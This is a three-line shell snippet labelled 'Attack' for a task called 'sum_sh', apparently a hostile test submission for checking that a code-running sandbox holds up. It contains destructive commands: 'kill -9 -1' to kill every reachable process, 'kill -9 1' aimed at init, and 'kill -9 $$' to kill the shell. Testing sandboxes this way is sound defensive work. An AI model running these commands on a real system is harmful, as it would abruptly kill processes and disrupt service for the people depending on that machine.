# Attack: the shell kills everything that it can reach.
# task: sum_sh
kill -9 -1
kill -9 1
kill -9 $$
